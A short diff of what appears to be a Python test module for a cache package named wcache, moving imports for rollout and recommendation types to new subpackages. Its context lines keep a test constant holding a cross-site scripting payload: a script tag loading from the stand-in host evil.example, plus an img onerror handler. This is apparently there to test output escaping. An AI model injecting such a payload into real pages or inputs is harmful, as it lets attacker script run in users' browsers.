@@ -5,6 +5,7 @@ from __future__ import annotations
 from typing import Any, Dict, List
 
 from wcache.core import codec
+from wcache.core.change.rollout_state import Change, Rollout
 from wcache.core.errors import NotFoundError
 from wcache.core.model import (
     CacheMode,
@@ -21,7 +22,6 @@ from wcache.core.model import (
     Transport,
     Verdict,
 )
-from wcache.core.policy import ModeSummary, Result, recommend
 from wcache.core.record import (
     RECORD_FORMAT,
     CounterDelta,
@@ -30,7 +30,7 @@ from wcache.core.record import (
     Period,
     Record,
 )
-from wcache.core.rollout_state import Change, Rollout
+from wcache.core.verdict.recommend import ModeSummary, Result, recommend
 
 HOSTILE = '</td><script src="//evil.example/x.js">alert(1)</script><img onerror=x>'
 MODEL = DriveModel("ACME", HOSTILE, "1.0")
